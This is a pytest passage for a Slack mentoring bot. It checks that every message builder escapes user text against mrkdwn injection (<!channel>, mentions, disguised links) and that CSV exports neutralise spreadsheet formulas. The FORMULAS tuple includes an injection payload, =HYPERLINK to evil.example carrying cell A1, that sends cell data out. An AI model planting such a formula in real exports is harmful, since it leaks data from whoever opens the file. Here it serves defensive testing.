"""Text is text: everything a person typed (or Slack reported about them, like a name) is
escaped for mrkdwn wherever a builder shows it, so nobody can post `<!channel>`, a mention or a
disguised link through the app.

Every public function of every module in bot/blocks is run here with hostile input in every place
a person's words can reach, and every string Slack would read as mrkdwn is searched for the
hostile markup. A builder added later fails `test_every_builder_is_run` until it is added here.
"""

from __future__ import annotations

import csv
import importlib
import inspect
import io
import pkgutil
from datetime import UTC, date, datetime
from types import SimpleNamespace

import pytest

import bot.blocks
from bot.blocks import (
    admin,
    chart,
    checkins,
    common,
    export,
    goals,
    home,
    install,
    invitations,
    meeting,
    onboarding,
    pauses,
    prompts,
    report,
    rounds,
    settings,
    skills,
    steering,
)
from bot.domain import steering as steering_rules
from bot.domain.matching import Candidate, Rules
from bot.domain.pairing import Why
from bot.domain.schedule import NUDGE
from bot.domain.skills import CatalogSkill, Entry, SkillCatalog
from bot.domain.slots import Slot
from bot.domain.topics import KICKOFF
from bot.services import report as r
from bot.services import skills as sk
from bot.services import steering as st
from bot.services import workspace_settings as ws
from bot.services.errors import (
    HasLeft,
    NotSignedUp,
    PairNotFound,
    ProgramComplete,
    Refusal,
    UnreadablePause,
)
from bot.services.export import CheckinExport, Export, PersonExport
from bot.services.home import CheckinView, GoalView, NextPrompt, PairView, ParticipantHome
from bot.services.onboarding import PairedWith, Standing
from bot.services.pauses import PartnerToTell, Paused, Resumed
from bot.services.rounds import (
    LastPairDropped,
    Moved,
    NothingToMatch,
    NotInProposal,
    NotPosted,
    OpenProposal,
    PoolChange,
    Stale,
)
from bot.slack.admin import Refusal as AdminRefusal
from storage.models import ProgramSettings
from storage.repositories.erasure import Erased
from storage.repositories.reporting import CheckinRow, PersonRow

HOSTILE = "Hi <!channel> *bold* <@U123> & <https://x|y> <!here> <#C999|general> <!subteam^S1>"
# What must never reach Slack's mrkdwn parser intact.
MARKUP = ("<!channel>", "<!here>", "<@U123>", "<https://x|y>", "<#C999", "<!subteam")
TODAY = date(2026, 3, 2)


def hostile_profile(status="active", **kw):
    return SimpleNamespace(
        slack_user_id="U0ANA", name=HOSTILE, side="either", skills_share=["ai_tools", HOSTILE],
        skills_learn=[HOSTILE], seniority_years=5, department=HOSTILE, timezone="Europe/London",
        meeting_mode="video", meeting_frequency="weekly", intro=HOSTILE, status=status,
        paused_until=None, capacity=1, manager_slack_id=None, **kw)


def hostile_goal(id=1, role="mentee"):
    return SimpleNamespace(id=id, what=HOSTILE, why=HOSTILE, measure=HOSTILE, role=role, position=id,
                           target_date=date(2026, 6, 1), author_user_id="U0ANA")


def hostile_checkin():
    return SimpleNamespace(met=True, usefulness=4, learned=HOSTILE, will_try=HOSTILE, blockers=HOSTILE,
                           goal_progress={"1": "some"}, overall_usefulness=5, recommend="yes",
                           keep_meeting="yes", share_blocker=True)


def hostile_proposal():
    reasons = [f"{HOSTILE} can share what {HOSTILE} wants to learn: AI tools",
               f"Different departments: {HOSTILE} and {HOSTILE}"]
    return {"pairs": [{"mentor": "U0BEN", "mentee": "U0ANA", "score": 16, "reasons": reasons}],
            "unmatched": [{"user": "U0CAT", "reason": f"Every possible partner is in the same department ({HOSTILE})"}],
            "stats": {"pairs": 1, "participants": 3, "mentors": 1, "mentees": 1, "either": 1, "unmatched": 1}}


def many(n_pairs: int, n_unmatched: int) -> dict:
    """A proposal too big for one page of the preview."""
    one = hostile_proposal()
    return {"pairs": [{**one["pairs"][0], "mentor": f"U0M{i}", "mentee": f"U0E{i}"} for i in range(n_pairs)],
            "unmatched": [{**one["unmatched"][0], "user": f"U0U{i}"} for i in range(n_unmatched)],
            "stats": {**one["stats"], "pairs": n_pairs, "unmatched": n_unmatched}}


def standing(status="active"):
    pairs = (PairedWith(partner_id="U0BEN", role="reverse mentor", since=TODAY, pair_id=1),
             PairedWith(partner_id="U0CAT", role="mentee", since=TODAY, pair_id=2))
    return Standing(hostile_profile(status), "U0BEN", "reverse mentor", TODAY, 1, pairs)


PAUSED = Paused(user_id="U0ANA", until=date(2026, 3, 16), today=TODAY,
                partners=(PartnerToTell(pair_id=1, partner_id="U0BEN", channel="G0PAIR"),))
RESUMED = Resumed(user_id="U0ANA", today=TODAY, ended_on=None,
                  partners=(PartnerToTell(pair_id=1, partner_id="U0BEN", channel="G0PAIR"),))
ERASED = Erased(profile=True, goals=2, checkins=3, pairs=1, rounds=1, messages=9, other=1)

# --- the program health report, the Home tab, the export -----------------------------------

NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
# What a spreadsheet would run as a formula (people's names and departments can start so).
FORMULAS = ('=HYPERLINK("https://evil.example/?d="&A1,"Click me")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1")


def figures(*, answers: int = 6) -> r.Figures:
    return r.Figures(
        people=r.PeopleFigures(total=12, in_pool=2, paired=8, paused=1, left=1), pairs=5, active=4, completed=1,
        ended_early=0, started=4, met_once=r.Ratio(3, 4), met_last_cycle=r.Ratio(5, 6), meetings=r.Mean(9, 4),
        response=r.Ratio(14, 20), usefulness=r.Mean(31, 8),
        goals=r.GoalFigures(pairs_with_goals=r.Ratio(4, 4), goals=7,
                            goal_progress={"done": 1, "some": 3, r.UNREPORTED: 3}, learn_back=3,
                            pairs_with_learn_back=r.Ratio(2, 4), learn_back_progress={"not_started": 3}),
        survey=r.SurveyFigures(answers=answers, overall=r.Mean(4.5 * answers, answers),
                               recommend={"yes": 4, "maybe": 1, "no": 1} if answers else {},
                               keep_meeting={"yes": 5, "no": 1} if answers else {}),
        health={r.NEEDS_ATTENTION: 2, r.ON_TRACK: 1, r.TOO_EARLY: 1})


# Every kind of reason, with a hostile name and a hostile shared blocker where they can appear.
REASONS = (
    r.Reason(r.BLOCKER, cycles=3, who="U0ANA", who_name=HOSTILE, shared=f"My manager {HOSTILE}\nsays no"),
    r.Reason(r.BLOCKER, cycles=3, who="U0BEN", who_name=FORMULAS[0]),
    r.Reason(r.ON_A_BREAK, who="U0BEN", who_name=HOSTILE, until=date(2026, 3, 16)),
    r.Reason(r.SILENT, cycles=2), r.Reason(r.NOT_MET, cycles=2), r.Reason(r.NEVER_MET),
    r.Reason(r.LOW_USEFULNESS, score=1.5), r.Reason(r.NO_MEETING_YET, cycles=1), r.Reason(r.FIRST_SESSION),
    r.Reason(r.NOT_INTRODUCED), r.Reason(r.MET, cycles=2),
)


def pair_health(pair_id: int = 1, *, health: str | None = r.NEEDS_ATTENTION, status: str = r.ACTIVE,
                name: str = HOSTILE) -> r.PairHealth:
    return r.PairHealth(
        pair_id=pair_id, mentor_id="U0BEN", mentor_name=name, mentee_id="U0ANA", mentee_name=HOSTILE,
        status=status, health=health, reasons=REASONS if health == r.NEEDS_ATTENTION else (REASONS[-1],),
        started=date(2026, 1, 5), ended=None if status == r.ACTIVE else date(2026, 2, 20), cycles_done=4,
        checkins=7, meetings_reported=3, usefulness=r.Mean(15, 5), goals=3,
        goals_progress={"some": 2, r.UNREPORTED: 1}, in_cohort=True, channel_id="G0PAIR")


def health_report(*, cohort: bool = True, pairs: int = 3, answers: int = 6) -> r.Report:
    kinds = [(r.NEEDS_ATTENTION, r.ACTIVE), (r.ON_TRACK, r.ACTIVE), (None, r.COMPLETED), (r.TOO_EARLY, r.ACTIVE)]
    return r.Report(
        team_id="T0HOSTILE", generated_at=NOW, overall=figures(answers=answers),
        cohort=figures(answers=0) if cohort else None, cohort_since=date(2026, 1, 5),
        pairs=tuple(pair_health(i + 1, health=h, status=st_, name=FORMULAS[i % len(FORMULAS)] if i % 2 else HOSTILE)
                    for i, (h, st_) in enumerate((kinds * 20)[:pairs])),
        weeks=WEEKS, quiet_cycles=2, cadence_weeks=1, n_cycles=12)


WEEKS = tuple(r.WeekPoint(week=w, cycle=w, pairs=p, met=r.Ratio(m, p), response=r.Ratio(2 * m, 2 * p),
                          usefulness=r.Mean(4 * m, m))
              for w, p, m in ((1, 4, 3), (2, 4, 0), (3, 0, 0), (4, 5, 5)))


def hostile_person(user_id: str, name: str, department: str) -> PersonRow:
    return PersonRow(user_id=user_id, name=name, status="active", side="mentor",
                     skills_share=(FORMULAS[3], "ai_tools"), skills_learn=(HOSTILE,), seniority_years=2,
                     department=department, timezone="Europe/London", meeting_mode="video",
                     meeting_frequency="weekly", capacity=1, joined_at=NOW, paused_until=None, left_at=None)


def hostile_export() -> Export:
    row = CheckinRow(pair_id=1, user_id="U0ANA", cycle=3, kind="checkin", met=True, usefulness=4, has_blocker=True,
                     share_blocker=True, goal_progress={"1": "some"}, overall_usefulness=None, recommend=None,
                     keep_meeting=None, updated_at=NOW)
    people = [PersonExport(hostile_person(f"U0P{i}", name, FORMULAS[(-1 - i) % len(FORMULAS)]), 1, 2)
              for i, name in enumerate((*FORMULAS, HOSTILE))]
    return Export(team_id="T0HOSTILE", generated_at=NOW,
                  pairs=[pair_health(1, name=FORMULAS[0]), pair_health(2, health=None, status=r.COMPLETED)],
                  people=people,
                  checkins=[CheckinExport(row, name, "mentee", {"some": 1}) for name in (*FORMULAS, HOSTILE)])


def participant(status: str = "active") -> ParticipantHome:
    goals_ = (GoalView("mentee", HOSTILE, "some"), GoalView("mentee", FORMULAS[0], None),
              GoalView("mentor", HOSTILE, "done"))
    pairs = (
        PairView(pair_id=1, partner_id="U0BEN", partner_role="reverse mentor", introduced=True, session=3,
                 sessions=12, next_prompt=NextPrompt(NUDGE, datetime(2026, 3, 9, 9, 0), "Europe/London"),
                 goals=goals_, my_checkins=(CheckinView(1, "checkin", True, 4), CheckinView(2, "checkin", False, None),
                                            CheckinView(12, "final", True, 5))),
        PairView(pair_id=2, partner_id="U0CAT", partner_role="mentee", introduced=False, session=0, sessions=12,
                 next_prompt=None, goals=(), my_checkins=()),
    )
    return ParticipantHome(standing=standing(status), pairs=pairs if status != "left" else ())


NOT_A_MEMBER = ParticipantHome(standing=Standing(None), pairs=())
HOME_NOTICE = pauses.pause_refusal(UnreadablePause(f"I can't read {HOSTILE}."))


# --- steering pairs ------------------------------------------------------------------------

def hostile_candidate(user_id: str, *, side: str, years: int, tz: str = "Europe/London",
                      manager: str | None = None) -> Candidate:
    return Candidate(user_id=user_id, name=HOSTILE, side=side, skills_share=frozenset({HOSTILE}),
                     skills_learn=frozenset({HOSTILE}), seniority_years=years, department=HOSTILE, timezone=tz,
                     manager_id=manager)


# Every rule two people can break, worded with their (hostile) names and department.
BROKEN = tuple(steering_rules.broken_rules(
    hostile_candidate("U0ANA", side="mentee", years=20, tz=HOSTILE, manager="U0BEN"),
    hostile_candidate("U0BEN", side="mentor", years=3, manager="U0ANA"),
    Rules(reference_time=NOW), history=[("U0ANA", "U0BEN")]))
ENDED = st.Ended(pair_id=1, mentor="U0BEN", mentee="U0ANA", ended_by="U0ADM", reason="not_a_fit", note=HOSTILE,
                 tell=("U0BEN", "U0ANA"))
ENDED_PAIR = SimpleNamespace(id=1, mentor_user_id="U0BEN", mentee_user_id="U0ANA", ended_by="U0ADM")

# --- meeting times ------------------------------------------------------------------------
# Zones are checked names (a slot can't be shown in any other); people may have been deleted.
SLOTS = [Slot(datetime(2026, 3, d, 14, 0, tzinfo=UTC)) for d in (3, 4, 5)]
PEOPLE = ([("U0BEN", "Europe/London"), ("h:0123abcd", "America/Los_Angeles")],
          [("U0BEN", "Europe/London"), ("U0ANA", "Europe/London")])


# --- admins' invitations, settings and skill catalog ---------------------------------------

# What an admin typed after `/mentoring add`, and what Slack answered for each address.
ADD_LINES = [(HOSTILE, "not_an_email", None, None), (f"{HOSTILE}@example.com", "not_found", None, None),
             ("bot@example.com", "is_bot", "U0BOT", None), ("ana@example.com", "invited", "U0ANA", None),
             ("ben@example.com", "queued", "U0BEN", None), ("cat@example.com", "already_in", "U0CAT", None),
             ("dan@example.com", "lookup_failed", None, HOSTILE), ("eve@example.com", "weird", None, None)]
# The settings a form or the command line can't save (each problem quotes what was typed), and a
# row as an old database (or a forged one) might hold it.
SETTINGS_PROBLEMS = ws.parse_options({o: HOSTILE for o in ws.OPTION_NAMES})[1]
HOSTILE_SETTINGS = ProgramSettings(team_id="T0HOSTILE", digest_timezone=HOSTILE, nudge_time=HOSTILE,
                                   nudge_weekday=9, cadence_weeks=3)
# Skills an admin named: added ones, built-in ones renamed (and retired), with hostile names.
CATALOG = SkillCatalog.with_changes(
    [Entry("ai_tools", HOSTILE, "digital", True)]
    + [Entry(f"added_{i}", f"{HOSTILE} {i}", ("digital", "leadership")[i % 2], bool(i % 3)) for i in range(60)])
SKILL = CatalogSkill("hostile", HOSTILE, "digital", retired=True, builtin=False)


# Each builder with hostile input wherever a person's words (or their name, or a team's name)
# can reach it. Several calls where a builder has several shapes.
CALLS: dict[str, list] = {
    "admin.admin_channel_refusal": [lambda: admin.admin_channel_refusal("C0ADMIN")],
    "admin.admin_channel_set": [lambda: admin.admin_channel_set(user_id="U0ANA", before="C0OLD")],
    "admin.command_refusal_text": [lambda r=r: admin.command_refusal_text(r, sub="match", admin_channel="C0ADMIN")
                                   for r in AdminRefusal],
    "chart.chart_title": [lambda c=c: chart.chart_title(cohort=c) for c in (True, False)],
    "chart.draw_chart": [lambda c=c: chart.draw_chart(WEEKS, cohort=c) for c in (True, False)],
    "admin.refusal_text": [lambda: admin.refusal_text(AdminRefusal.NOT_AN_ADMIN, what="x", admin_channel="C1")],
    "checkins.build_checkin_modal": [
        lambda: checkins.build_checkin_modal(pair_id=1, cycle=2, kind="checkin", partner_name=HOSTILE,
                                             goals=[hostile_goal(1), hostile_goal(2, "mentor")],
                                             existing=hostile_checkin()),
        lambda: checkins.build_checkin_modal(pair_id=1, cycle=12, kind="final", partner_name=HOSTILE,
                                             goals=[hostile_goal(1)], existing=hostile_checkin()),
    ],
    "checkins.build_checkin_thanks": [
        lambda k=k, m=m, u=u: checkins.build_checkin_thanks(name=HOSTILE, kind=k, met=m, updated=u, weekly=True)
        for k in ("checkin", "final") for m in (True, False) for u in (True, False)],
    "checkins.refusal": [lambda: checkins.refusal(NotSignedUp())],
    "export.checkins_csv": [lambda: export.checkins_csv(hostile_export())],
    "export.export_comment": [lambda: export.export_comment(hostile_export())],
    "export.neutralise": [lambda v=v: export.neutralise(v) for v in (*FORMULAS, HOSTILE, None, 3)],
    "export.pairs_csv": [lambda: export.pairs_csv(hostile_export())],
    "export.people_csv": [lambda: export.people_csv(hostile_export())],
    "common.actions": [lambda: common.actions(common.button("Go", "a"))],
    "common.button": [lambda: common.button("Go", "a", value=HOSTILE)],
    "common.context": [lambda: common.context(common.esc(HOSTILE))],
    "common.count": [lambda: common.count(2, "person", "people")],
    "common.divider": [common.divider],
    "common.esc": [lambda: common.esc(HOSTILE)],
    "common.fields": [lambda: common.fields(common.esc(HOSTILE))],
    "common.fmt_day": [lambda: common.fmt_day(TODAY)],
    "common.header": [lambda: common.header(HOSTILE)],
    "common.input_block": [lambda: common.input_block("b", HOSTILE, common.text_input(10))],
    "common.modal": [lambda: common.modal("cb", "Title", [], private_metadata=HOSTILE)],
    "common.mrkdwn": [lambda: common.mrkdwn(common.esc(HOSTILE))],
    "common.option": [lambda: common.option(HOSTILE, "v")],
    "common.people": [lambda: common.people(["U0ANA", "U0BEN"])],
    "common.plain": [lambda: common.plain(HOSTILE)],
    "common.section": [lambda: common.section(common.esc(HOSTILE))],
    "common.text_input": [lambda: common.text_input(300, initial=HOSTILE, placeholder=HOSTILE)],
    "common.truncate": [lambda: common.truncate(common.esc(HOSTILE), 20)],
    "common.user": [lambda: common.user("U0ANA")],
    "goals.build_goals_modal": [
        lambda: goals.build_goals_modal(pair_id=1, role="mentee", partner_id="U0BEN", goals=[hostile_goal()]),
        lambda: goals.build_goals_modal(pair_id=1, role="mentor", partner_id="U0ANA",
                                        goals=[hostile_goal(1, "mentor")], partner_goals=[hostile_goal()]),
    ],
    "goals.build_goals_posted": [
        lambda r=r, u=u: goals.build_goals_posted(pair_id=1, role=r, author_id="U0ANA", goals=[hostile_goal()], updated=u)
        for r in ("mentee", "mentor") for u in (True, False)],
    "goals.fmt_date": [lambda: goals.fmt_date(TODAY)],
    "goals.refusal": [lambda: goals.refusal(NotSignedUp()), lambda: goals.refusal(ProgramComplete("U0BEN")),
                      lambda: goals.refusal(HasLeft())],
    "home.admin_blocks": [lambda c=c, n=n: home.admin_blocks(health_report(cohort=c, pairs=n))
                          for c in (True, False) for n in (0, 2, 30)],
    "home.build_home": [
        lambda: home.build_home(participant=participant(), today=TODAY, report=health_report(), notice=HOME_NOTICE),
        lambda: home.build_home(participant=participant("paused"), today=TODAY),
        lambda: home.build_home(participant=participant("left"), today=TODAY, notice=HOME_NOTICE),
        lambda: home.build_home(participant=NOT_A_MEMBER, today=TODAY, report=health_report(cohort=False)),
        lambda: home.build_home(participant=NOT_A_MEMBER, today=TODAY, notice=HOME_NOTICE),
    ],
    "home.participant_blocks": [lambda s=s: home.participant_blocks(participant(s), today=TODAY)
                                for s in ("active", "paused")],
    "install.failed_page": [lambda: install.failed_page(HOSTILE)],
    "install.install_page": [lambda: install.install_page("https://slack.com/oauth?x=<y>&z=1")],
    "install.installed_page": [lambda: install.installed_page(team_name=HOSTILE, app_url="https://x/<y>",
                                                              welcome_back=True)],
    "invitations.build_add_reply": [lambda n=n: invitations.build_add_reply(ADD_LINES * n) for n in (1, 30)]
    + [lambda: invitations.build_add_reply([])],
    "invitations.build_invitation": [lambda u=u: invitations.build_invitation(user_id=u, invited_by="U0ADM")
                                     for u in ("U0ANA", "h:0123abcd")],
    "meeting.cadence_section": [
        lambda f=f, c=c: meeting.cadence_section(cadence_weeks=2, program_fixed=f, choices=c)
        for f in (True, False) for c in (("weekly", HOSTILE), ("biweekly", None), ("weekly", "weekly"))],
    "meeting.invitation_comment": [lambda z=z: meeting.invitation_comment(slot=SLOTS[0], tz=z, cadence_weeks=2,
                                                                          sessions=6)
                                   for z in ("Europe/London", "America/Argentina/Buenos_Aires")],
    "meeting.slot_lines": [lambda p=p: meeting.slot_lines(SLOTS, p) for p in PEOPLE],
    "meeting.slots_section": [
        lambda s=s, p=p, i=i, a=a: meeting.slots_section(slots=s, people=p, cadence_weeks=1, sessions=12,
                                                         invitation=i, again=a)
        for s in (SLOTS, []) for p in PEOPLE for i in (True, False) for a in (True, False)],
    "meeting.every": [lambda n=n: meeting.every(n) for n in (1, 2, 3)],
    "onboarding.build_already_left": [lambda h=h: onboarding.build_already_left(has_data=h) for h in (True, False)],
    "onboarding.erased_lines": [lambda: onboarding.erased_lines(ERASED)],
    "onboarding.build_help_message": [lambda: onboarding.build_help_message(unknown=HOSTILE, is_admin_channel=True)],
    "onboarding.build_home": [lambda s=s: onboarding.build_home(standing(s), today=TODAY)
                              for s in ("active", "paused", "left")],
    "onboarding.build_home_view": [lambda: onboarding.build_home_view(hostile_profile(), standing="In the pool.")],
    "onboarding.build_join_modal": [lambda: onboarding.build_join_modal(hostile_profile()),
                                    lambda: onboarding.build_join_modal(None)],
    "onboarding.build_joined_dm": [lambda c=c: onboarding.build_joined_dm(hostile_profile(), created=c)
                                   for c in (True, False)],
    "onboarding.build_leave_confirm": [lambda p=p: onboarding.build_leave_confirm(in_pair=p) for p in (True, False)],
    "onboarding.build_left_message": [lambda d=d: onboarding.build_left_message(deleted=d, erased=ERASED)
                                      for d in (True, False)],
    "onboarding.build_not_a_member_message": [onboarding.build_not_a_member_message],
    "onboarding.build_not_saved_dm": [onboarding.build_not_saved_dm],
    "onboarding.build_status": [lambda s=s: onboarding.build_status(standing(s), today=TODAY)
                                for s in ("active", "paused", "left")],
    "onboarding.build_status_message": [lambda: onboarding.build_status_message(hostile_profile(), standing="x")],
    "onboarding.profile_lines": [lambda: onboarding.profile_lines(hostile_profile())],
    "onboarding.standing_line": [lambda: onboarding.standing_line(hostile_profile(), partner_id="U0BEN",
                                                                  partner_role="mentee", paired_since=TODAY,
                                                                  today=TODAY)],
    "onboarding.standing_text": [lambda: onboarding.standing_text(standing(), today=TODAY)],
    "pauses.pair_ended_admin_note": [lambda: pauses.pair_ended_admin_note(leaver_id="U0ANA", partner_id="U0BEN")],
    "pauses.pair_ended_partner_note": [lambda: pauses.pair_ended_partner_note(leaver_id="U0ANA")],
    "pauses.pause_admin_note": [
        lambda u=u, m=m, e=e: pauses.pause_admin_note(
            Paused(user_id="U0ANA", until=u, today=TODAY, partners=()),
            PartnerToTell(pair_id=1, partner_id="U0BEN", channel="G0PAIR", mentor_id="U0BEN", mentee_id="U0ANA",
                          sessions_moved=m, ends_on=e))
        for u in (date(2026, 3, 16), None) for m in (0, 1, 2) for e in (None, date(2026, 6, 1))],
    "pauses.pause_note": [lambda: pauses.pause_note(PAUSED)],
    "pauses.pause_refusal": [lambda: pauses.pause_refusal(UnreadablePause(f"I can't read {HOSTILE}."))],
    "pauses.paused_reply": [lambda: pauses.paused_reply(PAUSED)],
    "pauses.resume_note": [lambda: pauses.resume_note(RESUMED)],
    "pauses.resume_refusal": [lambda: pauses.resume_refusal(NotSignedUp())],
    "pauses.resumed_reply": [lambda: pauses.resumed_reply(RESUMED)],
    "report.attention_blocks": [lambda: report.attention_blocks(pair_health())],
    "report.export_posted": [lambda: report.export_posted("C0ADMIN")],
    "report.figure_lines": [lambda a=a: [v for pair in report.figure_lines(figures(answers=a)) for v in pair]
                            for a in (0, 3, 6)],
    "report.mean": [lambda m=m: report.mean(m) for m in (r.Mean(0, 0), r.Mean(12, 3), r.Mean(31, 8))],
    "report.pair_already_nudged": [lambda: report.pair_already_nudged(mentor="U0BEN", mentee="U0ANA")],
    "report.pair_nudge": [lambda: report.pair_nudge(mentor="U0BEN", mentee="U0ANA")],
    "report.pair_nudged": [lambda: report.pair_nudged(mentor="U0BEN", mentee="U0ANA")],
    "report.pair_title": [lambda: report.pair_title(pair_health())],
    "report.preview_posted": [lambda: report.preview_posted("C0ADMIN")],
    "report.ratio": [lambda x=x: report.ratio(x) for x in (r.Ratio(0, 0), r.Ratio(2, 3), r.Ratio(12, 15))],
    "report.reason_words": [lambda x=x, w=w: report.reason_words(x, with_shared=w) for x in REASONS for w in (True, False)],
    "report.report_messages": [lambda c=c, n=n: report.report_messages(health_report(cohort=c, pairs=n))
                               for c in (True, False) for n in (0, 2, 3, 410)],
    "report.report_text": [lambda c=c, n=n: report.report_text(health_report(cohort=c, pairs=n))
                           for c in (True, False) for n in (0, 2, 3)],
    "prompts.closing": [lambda: prompts.closing(pair_id=1, mentor="U0BEN", mentee="U0ANA", cycle=12,
                                                survey_pending=["U0ANA"])],
    "prompts.feedback_prompt": [lambda: prompts.feedback_prompt(pair_id=1, mentor="U0BEN", mentee="U0ANA",
                                                                cycle=2, n_cycles=12)],
    "prompts.final_survey": [lambda: prompts.final_survey(pair_id=1, mentor="U0BEN", mentee="U0ANA", cycle=12)],
    "prompts.nudge": [lambda: prompts.nudge(mentor="U0BEN", mentee="U0ANA", cycle=1, n_cycles=12, topic=KICKOFF)],
    "prompts.reminder": [lambda: prompts.reminder(pair_id=1, cycle=2, waiting_for=["U0ANA"])],
    "prompts.survey_reminder": [lambda: prompts.survey_reminder(pair_id=1, cycle=12, waiting_for=["U0ANA"])],
    "rounds.app_problem_note": [lambda: rounds.app_problem_note(error=HOSTILE, round_id=1)],
    "rounds.build_cancelled": [lambda: rounds.build_cancelled(proposal=hostile_proposal(), cancelled_by="U0ADM")],
    "rounds.build_emptied": [lambda: rounds.build_emptied(proposal=hostile_proposal(), dropped_by="U0ADM")],
    "rounds.build_finished": [lambda: rounds.build_finished(proposal=hostile_proposal(), decided_by="U0ADM",
                                                            introduced=0, total=1, unmatched=1,
                                                            failed=[("U0BEN", "U0ANA", HOSTILE)])],
    "rounds.build_intro": [lambda: rounds.build_intro(pair_id=1, mentor="U0BEN", mentee="U0ANA",
                                                      why=Why(wanted=(HOSTILE,), back=(HOSTILE,), common=(HOSTILE,),
                                                              departments=(HOSTILE, HOSTILE)),
                                                      profiles={"U0BEN": (HOSTILE, "video"),
                                                                "U0ANA": (HOSTILE, "coffee")})],
    "rounds.why_lines": [lambda: rounds.why_lines(Why(wanted=(HOSTILE,) * 5, departments=(HOSTILE, "x")),
                                                  mentor="U0BEN", mentee="U0ANA")],
    "rounds.build_intro_failed_dm": [lambda: rounds.build_intro_failed_dm(user_id="U0ANA")],
    "rounds.build_nothing_to_match": [
        lambda n=n: rounds.build_nothing_to_match(pool_size=n, unmatched=hostile_proposal()["unmatched"] * 2)
        for n in (1, 2)],
    "rounds.build_open_proposal_exists": [lambda: rounds.build_open_proposal_exists(created_by="U0ADM",
                                                                                    permalink="https://x/y")],
    "rounds.build_preview": [lambda: rounds.build_preview(round_id=1, proposal=hostile_proposal(), created_by="U0ADM")]
    + [lambda p=p: rounds.build_preview(round_id=1, proposal=many(25, 90), created_by="U0ADM", page=p)
       for p in range(6)],
    "rounds.build_preview_failed": [lambda: rounds.build_preview_failed(HOSTILE, "C0ADMIN")],
    "rounds.drop_reply": [lambda o=o: rounds.drop_reply(o)
                          for o in (Moved(round_id=1, status="cancelled", decided_by="U0ADM"), NotInProposal(1),
                                    LastPairDropped(1), Stale(round_id=1, change=PoolChange(1, 1)))],
    "rounds.build_progress": [lambda: rounds.build_progress(proposal=hostile_proposal(), decided_by="U0ADM",
                                                            introduced=0, total=1, note=HOSTILE)],
    "rounds.build_stale": [lambda: rounds.build_stale(proposal=hostile_proposal(), what_changed="someone left")],
    "rounds.build_unmatched_dm": [lambda: rounds.build_unmatched_dm(user_id="U0CAT", reason=HOSTILE)],
    "rounds.build_working": [rounds.build_working],
    "rounds.decision_reply": [lambda: rounds.decision_reply(Stale(round_id=1, change=PoolChange(1, 1))),
                              lambda: rounds.decision_reply(Moved(round_id=1, status="done", decided_by="U0ADM"))],
    "rounds.pair_line": [lambda: rounds.pair_line(hostile_proposal()["pairs"][0])],
    "rounds.percent": [lambda x=x: rounds.percent(x) for x in (0.0, 0.001, 0.5, 0.9996, 1.0)],
    "rounds.pages": [lambda n=n, u=u: rounds.pages(many(n, u)) for n, u in ((1, 1), (25, 0), (3, 90), (0, 0))],
    "rounds.plain_reason": [lambda: rounds.plain_reason(HOSTILE)],
    "rounds.preview_reply": [
        lambda: rounds.preview_reply(OpenProposal(round_id=1, created_by="U0ADM", permalink=None)),
        lambda: rounds.preview_reply(NothingToMatch(pool_size=2, unmatched=hostile_proposal()["unmatched"] * 2)),
        lambda: rounds.preview_reply(NotPosted(round_id=1, error=HOSTILE, channel="C0ADMIN")),
    ],
    "rounds.round_state_reply": [lambda: rounds.round_state_reply("done", decided_by="U0ADM")],
    "rounds.stale_reply": [lambda: rounds.stale_reply("someone left")],
    "rounds.summary_line": [lambda: rounds.summary_line(hostile_proposal())],
    "rounds.stopped_early_text": [lambda: rounds.stopped_early_text({"optimality_gap_pairs": 2, "either": 3}),
                                  lambda: rounds.stopped_early_text({"stopped_at_time_limit": False}),
                                  lambda: rounds.stopped_early_text({})],
    "rounds.what_changed": [lambda: rounds.what_changed(PoolChange(1, 2))],
    "settings.build_settings_modal": [lambda: settings.build_settings_modal(HOSTILE_SETTINGS),
                                      lambda: settings.build_settings_modal(ProgramSettings(team_id="T0"))],
    "settings.field_errors": [lambda: settings.field_errors(SETTINGS_PROBLEMS),
                              lambda: settings.field_errors([HOSTILE, f"--cadence {HOSTILE}"])],
    "settings.settings_changed": [
        lambda c=c: settings.settings_changed(user_id="U0ADM", row=HOSTILE_SETTINGS, changed=c)
        for c in (ws.OPTION_NAMES, ("digest_timezone",), ())],
    "skills.build_catalog": [lambda c=c: skills.build_catalog(c) for c in (CATALOG, SkillCatalog.builtin())],
    "skills.changed_text": [lambda v=v: skills.changed_text(v, sk.Changed(SKILL, before=HOSTILE), by="U0ADM")
                            for v in ("add", "rename", "retire", "restore")]
    + [lambda: skills.changed_text("add", sk.Changed(CatalogSkill("x", HOSTILE, HOSTILE)), by="U0ADM")],
    "skills.refusal": [lambda e=e: skills.refusal(e)
                       for e in (sk.BadLabel(HOSTILE), sk.LabelTaken("hostile", HOSTILE), sk.UnknownSkill(HOSTILE),
                                 sk.UnknownSkill(HOSTILE * 9), sk.AlreadyRetired(SKILL), sk.TooMany(),
                                 sk.NotRetired(SKILL), Refusal(HOSTILE))],
    "steering.build_choose_pair": [lambda: steering.build_choose_pair(
        "U0BEN", [st.PairView(1, "U0BEN", "U0ANA", True), st.PairView(2, "U0BEN", "U0CAT", False)])],
    "steering.build_end_modal": [lambda: steering.build_end_modal(st.PairView(1, "U0BEN", "U0ANA", True))],
    "steering.build_ended_reply": [lambda: steering.build_ended_reply(ENDED)],
    "steering.build_hand_pair_check": [lambda b=b: steering.build_hand_pair_check(st.HandPairCheck("U0BEN", "U0ANA", b))
                                       for b in (BROKEN, BROKEN[-2:-1])],
    "steering.build_pair_ended_admins": [
        lambda e=e: steering.build_pair_ended_admins(e)
        for e in (ENDED, st.Ended(1, "U0BEN", "U0ANA", "U0ADM", HOSTILE, "", ()),
                  st.Ended(1, "U0BEN", "U0ANA", "U0ADM", "other", FORMULAS[0], ("U0ANA",)))],
    "steering.end_refusal": [lambda e=e: steering.end_refusal(e)
                             for e in (st.PairAlreadyEnded(ENDED_PAIR, ENDED), st.NotInProgram("U0ANA"),
                                       st.NoActivePair("U0ANA"), PairNotFound(), st.SamePerson())],
    "steering.hand_pair_refusal": [lambda e=e: steering.hand_pair_refusal(e)
                                   for e in (st.SamePerson(), st.NotInProgram("U0ANA"),
                                             st.Busy("U0ANA", "paused", date(2026, 3, 16)), st.Busy("U0ANA", "paused"),
                                             st.Busy("U0ANA", "paired"), PairNotFound())],
    "steering.hand_paired_text": [lambda b=b: steering.hand_paired_text(st.HandPaired(1, 1, "U0BEN", "U0ANA", b),
                                                                        by="U0ADM") for b in (BROKEN, ())],
